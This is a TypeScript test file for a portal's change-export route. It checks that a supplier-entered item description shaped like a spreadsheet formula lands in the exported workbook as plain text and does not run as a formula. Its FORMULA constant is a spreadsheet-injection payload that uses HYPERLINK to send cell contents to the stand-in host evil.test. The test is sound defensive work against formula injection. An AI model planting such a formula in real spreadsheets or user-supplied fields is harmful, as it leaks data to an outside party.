import ExcelJS from 'exceljs';
import { POST as exportRoute } from '@/app/api/changes/export/route';
import { pool } from '@/db/client';
import { callRoute, sessionHeaders, userId } from '../support/actors';
import { createItem, createItemChange, createVendor, removeCreatedChanges } from '../support/changes';

/*
 * Lower item of issue 29: text a supplier controls, exported into a spreadsheet, is never a formula there.
 * A supplier proposes an item description that is a formula; the retailer's staff export the changes.
 */

const STAFF = 'staff@portal.test';
const FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")';

afterAll(async () => {
  await removeCreatedChanges();
  await pool.end();
});

it('writes a supplier’s formula-like text into changes_export.xlsx as an explicit Text string, as typed', async () => {
  const vendor = await createVendor();
  const { item } = await createItem(vendor.id);
  await createItemChange({
    vendorId: vendor.id,
    itemId: item.id,
    requestedBy: await userId('supplier@portal.test'),
    changeable: { descr: FORMULA, packSize: -6 },
  });

  const response = await callRoute(exportRoute, '/api/changes/export', {
    method: 'POST',
    headers: await sessionHeaders(STAFF),
    body: { search: vendor.code },
  });
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
  const sheet = workbook.getWorksheet('Item changes')!;
  const header = (sheet.getRow(1).values as unknown[]).slice(1);
  const row = sheet.getRow(2);
  expect(row.getCell(3).text).toContain(vendor.code);

  const proposed = row.getCell(header.indexOf('Proposed description') + 1);
  expect(proposed.formula).toBeUndefined();
  expect(proposed.type).toBe(ExcelJS.ValueType.RichText);
  expect(proposed.text).toBe(FORMULA);
  expect(proposed.numFmt).toBe('@');
  // A negative number stays a number.
  expect(row.getCell(header.indexOf('Proposed pack size') + 1).value).toBe(-6);
});
